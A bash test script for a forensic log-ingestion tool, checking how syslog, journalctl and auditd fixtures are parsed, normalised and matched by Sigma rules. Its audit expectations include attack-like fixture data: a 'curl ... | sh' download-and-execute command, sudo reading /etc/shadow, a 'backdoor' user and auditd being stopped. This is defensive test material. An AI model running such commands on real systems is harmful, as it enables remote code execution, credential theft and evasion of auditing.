#!/usr/bin/env bash
# syslog and audit.log edge cases from scripts/gen-hostlog-fixtures.py: the year of BSD lines comes from
# the file time (New Year rollover, a month later than the file's month is last year),
# --opt tz for their local time, each header form, and the normalised event vocabulary
# (docs/formats.md) that analyzers rely on.
source "$(dirname "$0")/../lib.sh"
python3 "$ROOT/scripts/gen-hostlog-fixtures.py" "$TMP/fx" >/dev/null
touch -d '2025-01-02T00:00:00Z' "$TMP/fx/rollover.log"
touch -d '2025-06-15T12:00:00Z' "$TMP/fx/later.log" "$TMP/fx/variants.log"
expect_rc ingest_fixtures 0 "$KS" ingest -q "$TMP/c" "$TMP/fx/rollover.log" "$TMP/fx/later.log" "$TMP/fx/variants.log"
ev() { q "$TMP/c" "SELECT $2 FROM events e JOIN syslog s ON s.event_id = e.id WHERE e.file LIKE '%/$1' AND e.line = $3"; }

expect_eq rollover_december_is_previous_year "$(ev rollover.log e.time 1)" "2024-12-30T23:59:59.000000000Z"
expect_eq rollover_january_is_file_year "$(ev rollover.log e.time 3)" "2025-01-01T00:00:01.000000000Z"
expect_eq later_month_is_previous_year "$(ev later.log e.time 1)" "2024-09-01T10:00:00.000000000Z"
expect_eq same_month_is_file_year "$(ev later.log e.time 2)" "2025-06-15T08:00:00.000000000Z"
expect_rc ingest_with_zone 0 "$KS" ingest -q "$TMP/tz" --opt tz=Asia/Tokyo "$TMP/fx/rollover.log"
expect_eq local_time_zone_applied "$(q "$TMP/tz" "SELECT time FROM events WHERE line = 1")" "2024-12-30T14:59:59.000000000Z"
# a file time without a year in the lines: the same lines a year later land a year later
cp "$TMP/fx/rollover.log" "$TMP/r2.log"; touch -d '2026-01-03T00:00:00Z' "$TMP/r2.log"
"$KS" ingest -q "$TMP/c2" "$TMP/r2.log" >/dev/null 2>&1
expect_eq year_follows_file_time "$(q "$TMP/c2" "SELECT time FROM events WHERE line = 1")" "2025-12-30T23:59:59.000000000Z"

expect_eq pri_prefix_bsd "$(ev variants.log "s.facility || '.' || s.severity || ' ' || e.action || ' ' || s.user || ' ' || e.src_ip || ' ' || s.src_port || ' ' || s.reason" 1)" \
  "auth.info ssh_login_failed admin 198.51.100.7 4242 invalid user"
expect_eq rfc3339_offset_to_utc "$(ev variants.log "e.time || ' ' || e.src_ip || ' ' || s.key_fingerprint" 2)" \
  "2024-03-06T19:02:16.123456000Z 2001:db8::1 ED25519 SHA256:abcdef"
expect_eq rfc5424_sd_and_bom "$(ev variants.log "s.version || ' ' || s.msgid || ' ' || s.structured_data || ' ' || e.action || ' ' || e.actor || ' ' || e.target" 3)" \
  '1 ID47 [exampleSDID@32473 iut="3" eventSource="App\]x"] sudo bob /bin/bash'
expect_eq kernel_line "$(ev variants.log "s.program || ' ' || s.message" 4)" "kernel [12345.678901] usb 1-1: new high-speed USB device"
expect_eq user_add "$(ev variants.log "e.action || ' ' || e.target || ' ' || s.uid || ' ' || s.home || ' ' || s.shell" 5)" "user_add mallory 1001 /home/mallory /bin/bash"
expect_eq user_delete "$(ev variants.log "e.action || ' ' || e.target" 6)" "user_delete mallory"
expect_eq user_modify_group "$(ev variants.log "e.action || ' ' || e.target || ' ' || s.group_name" 7)" "user_modify eve sudo"
expect_eq password_change "$(ev variants.log "e.action || ' ' || e.target" 8)" "password_change eve"
expect_eq pam_auth_failure "$(ev variants.log "e.action || ' ' || e.actor || ' ' || e.src_ip || ' ' || s.pam_service" 9)" "auth_failure root 192.0.2.9 sshd"
expect_eq ssh_disconnect_invalid "$(ev variants.log "e.action || ' ' || s.user || ' ' || e.src_ip || ' ' || s.src_port" 10)" "ssh_disconnect oracle 192.0.2.10 5555"
expect_eq ssh_max_attempts "$(ev variants.log "e.action || ' ' || e.outcome" 11)" "ssh_max_attempts failure"
expect_eq message_repeated "$(ev variants.log "e.action || ' ' || s.repeat_count" 12)" "message_repeated 3"
expect_eq su_failed "$(ev variants.log "e.action || ' ' || e.actor || ' ' || e.target || ' ' || e.outcome" 13)" "su eve root failure"
expect_eq group_add "$(ev variants.log "e.action || ' ' || e.target || ' ' || s.gid" 14)" "group_add ops 2000"
expect_eq tag_without_colon "$(ev variants.log "e.action || ' ' || s.message" 15)" "anacron Job \`cron.daily' terminated"
expect_eq continuation_joined "$(ev variants.log "s.message" 16)" "Traceback (most recent call last):
  File \"x.py\", line 1, in <module>"
expect_eq login_failed "$(ev variants.log "e.action || ' ' || e.actor" 18)" "login_failed root"
expect_eq session_open "$(ev variants.log "e.action || ' ' || e.actor || ' ' || s.uid" 19)" "session_open deploy 1000"
# journalctl text output: -o short-iso times (+0900) and its markers as events without a time
"$KS" ingest -q "$TMP/jc" "$TMP/fx/journal.txt" >/dev/null 2>&1
expect_eq journalctl_text "$(q "$TMP/jc" "SELECT group_concat(coalesce(time, '-') || ' ' || action, ', ') FROM (SELECT * FROM events ORDER BY line)")" \
  "- journal_marker, 2024-03-06T19:02:16.000000000Z ssh_login, - reboot, 2024-03-06T19:10:00.000000000Z kernel"
# nothing dropped: every non-blank line is a record, an error record or a continuation
expect_eq rhel_crond "$(ev variants.log "e.action || ' ' || e.actor || ' ' || e.target" 20)" "cron_command root run-parts /etc/cron.hourly"
expect_eq shadow_passwd "$(ev variants.log "e.action || ' ' || e.actor || ' ' || e.target" 21)" "password_change root eve"
expect_eq gpasswd_add "$(ev variants.log "e.action || ' ' || e.actor || ' ' || e.target || ' ' || s.group_name" 22)" "user_modify root eve wheel"
expect_eq chage_expiry "$(ev variants.log "e.action || ' ' || e.target" 23)" "user_modify eve"
expect_eq ssh_connection_reset "$(ev variants.log "e.action || ' ' || e.actor || ' ' || e.src_ip || ' ' || s.src_port || ' ' || s.reason" 24)" \
  "ssh_disconnect root 192.0.2.12 7777 during authentication"
expect_eq all_records_kept "$(q "$TMP/c" "SELECT count(*) FROM events WHERE file LIKE '%variants.log'")" 23

# a file that starts with junk keeps it as an error record and is still read
{ echo 'garbage before the log'; head -n 2 "$TMP/fx/variants.log"; } >"$TMP/junk.log"
expect_rc junk_first_line_exit 3 "$KS" ingest -q "$TMP/j" --format syslog "$TMP/junk.log"
expect_eq junk_kept_as_error "$(q "$TMP/j" "SELECT count(*) || ' ' || sum(error IS NOT NULL) FROM events")" "3 1"
# content sniffing, not the name: an auth log called data.txt is syslog
cp "$TMP/fx/variants.log" "$TMP/data.txt"
"$KS" ingest -q "$TMP/s" "$TMP/data.txt" >/dev/null 2>&1
expect_eq sniffed_by_content "$(q "$TMP/s" "SELECT DISTINCT source FROM events")" syslog

# ---- audit.log ------------------------------------------------------------------------
expect_rc audit_ingest_one_bad_stamp 3 "$KS" ingest -q "$TMP/a" "$TMP/fx/audit.log" "$TMP/fx/audit_enriched.log"
au() { q "$TMP/a" "SELECT $2 FROM events e JOIN auditd a ON a.event_id = e.id WHERE e.file LIKE '%/$1' AND e.line = $3"; }
expect_eq audit_time_node_serial "$(au audit.log "e.time || ' ' || e.host || ' ' || a.serial || ' ' || a.key || ' ' || a.syscall" 1)" "2024-03-07T04:02:16.123000000Z web1 100 exec_watch execve"
expect_eq audit_execve_hex_arg "$(au audit.log "a.a2 || '|' || a.cmdline || '|' || a.argc" 2)" "curl -s http://203.0.113.9/x | sh|/bin/sh -c curl -s http://203.0.113.9/x | sh tail|4"
expect_eq audit_cwd_hex "$(au audit.log "a.cwd" 3)" "/tmp/my dir"
expect_eq audit_path "$(au audit.log "a.name || ' ' || a.nametype || ' ' || a.inode || ' ' || a.mode" 4)" "/bin/sh NORMAL 131 0100755"
expect_eq audit_proctitle_nuls_as_spaces "$(au audit.log "a.proctitle" 5)" "/bin/sh -c curl -s http://203.0.113.9/x | sh tail"
expect_eq audit_proctitle_raw_kept "$(au audit.log "substr(a.proctitle_raw, 1, 8)" 5)" "2F62696E"
expect_eq audit_execve_chunks_joined "$(au audit.log "a.cmdline" 6)" "python3 AAAAAAAAAAAAAAAAAAAA"
expect_eq audit_execve_second_record "$(au audit.log "a.serial || ' ' || a.cmdline" 7)" "101 last"
expect_eq audit_user_login_failed "$(au audit.log "e.action || ' ' || e.src_ip || ' ' || e.outcome || ' ' || a.acct_id" 8)" "login_failed 198.51.100.23 failure 1001"
expect_eq audit_user_cmd_sudo "$(au audit.log "e.action || ' ' || e.actor || ' ' || e.target || ' ' || a.cwd" 9)" "sudo 1001 cat /etc/shadow /home/eve"
expect_eq audit_add_user "$(au audit.log "e.action || ' ' || e.actor || ' ' || e.target" 10)" "user_add 1001 backdoor"
expect_eq audit_login_new_auid "$(au audit.log "e.actor || ' ' || (a.fields ->> '\$.old_auid')" 11)" "1001 4294967295"
expect_eq audit_service_stop "$(au audit.log "e.action || ' ' || e.target" 12)" "service_stop auditd"
expect_eq audit_bad_stamp_kept "$(q "$TMP/a" "SELECT line || ' ' || error FROM events WHERE error IS NOT NULL")" "13 audit stamp is not SECONDS.MILLIS:SERIAL"
expect_eq audit_enriched_names "$(au audit_enriched.log "a.syscall || ' ' || a.syscall_nr || ' ' || e.actor || ' ' || a.uid_name" 1)" "mknod 133 alice root"
expect_eq audit_enriched_auth "$(au audit_enriched.log "e.action || ' ' || e.actor || ' ' || e.src_ip || ' ' || a.auid_name" 2)" "auth_failure root 203.0.113.50 unset"
# inside a disk image: /var/log/auth.log and /var/log/audit/audit.log are found by content, and
# the year of BSD lines comes from the inode's mtime (mke2fs -d copies it)
if command -v mke2fs >/dev/null; then
  mkdir -p "$TMP/root/var/log/audit" "$TMP/root/etc"
  echo imghost >"$TMP/root/etc/hostname"
  cp "$TMP/fx/rollover.log" "$TMP/root/var/log/auth.log"
  touch -d '2025-01-02T00:00:00Z' "$TMP/root/var/log/auth.log"
  head -n 5 "$TMP/fx/audit.log" >"$TMP/root/var/log/audit/audit.log"
  if mke2fs -q -t ext4 -d "$TMP/root" "$TMP/disk.img" 8M 2>/dev/null; then
    "$KS" ingest -q "$TMP/img" "$TMP/disk.img" >"$TMP/img.txt" 2>&1
    expect_eq image_auth_log_is_syslog "$(q "$TMP/img" "SELECT count(*) || ' ' || min(time) FROM events WHERE source = 'syslog' AND file LIKE '%:/var/log/auth.log'")" \
      "4 2024-12-30T23:59:59.000000000Z"
    expect_eq image_audit_log_is_auditd "$(q "$TMP/img" "SELECT count(*) FROM auditd")" 5
  else
    skip image "mke2fs -d failed"
  fi
else
  skip image "e2fsprogs not installed"
fi

# SigmaHQ auditd rules fire on the parsed records (SYSCALL: mknod is the ENRICHED name)
SIGMA=$CORPUS/sigma/rules/linux/auditd
if [ -d "$SIGMA" ]; then
  "$KS" hunt "$TMP/a" --rules "$SIGMA" >"$TMP/hunt.txt" 2>&1
  expect_grep sigma_mknod_syscall_fires '^  fired: Special File Creation via Mknod Syscall' "$TMP/hunt.txt"
  expect_grep sigma_user_account_creation_fires '^  fired: Creation Of An User Account' "$TMP/hunt.txt"
else
  skip sigma_auditd_rules "no Sigma corpus at $SIGMA"
fi

# A truncated gzip: every line read before the damage is a record, the last one too, cut in
# its message (it was held while the next line was awaited), with a warning that its end may
# be missing.
python3 - "$TMP/cut.log.gz" "$TMP/cut.expect" <<'PY'
import gzip, random, sys, zlib
random.seed(7)
lines = [f"Nov 22 10:{i // 60 % 60:02d}:{i % 60:02d} web-1 sshd[{1000 + i}]: session {i} "
         f"{random.getrandbits(64):016x}" for i in range(3000)]
data = gzip.compress(("\n".join(lines) + "\n").encode(), 6)
for k in range(len(data) * 2 // 3, len(data)):  # a cut that leaves a line ended mid-message
    d = zlib.decompressobj(16 + zlib.MAX_WBITS)
    text = d.decompress(data[:k]).decode(errors="replace")
    tail = text.split("\n")[-1]
    if ": session" in tail and not tail.endswith(" "):
        break
open(sys.argv[1], "wb").write(data[:k])
open(sys.argv[2], "w").write(f"{text.count(chr(10)) + 1} {tail.split(': ', 1)[1]}\n")
PY
read -r n_lines last_msg < "$TMP/cut.expect"
"$KS" ingest "$TMP/cut" "$TMP/cut.log.gz" > "$TMP/cut.out" 2>&1
expect_eq truncated_gzip_exit_partial "$?" 3
expect_eq truncated_gzip_every_line_a_record "$(q "$TMP/cut" "SELECT count(*) FROM syslog")" "$n_lines"
expect_eq truncated_gzip_cut_last_line_kept \
  "$(q "$TMP/cut" "SELECT count(*) FROM syslog WHERE message = '$last_msg'")" "1"
expect_eq truncated_gzip_held_record_warned \
  "$(q "$TMP/cut" "SELECT warnings FROM evidence WHERE path LIKE '%cut.log.gz'")" "1"
exit 0
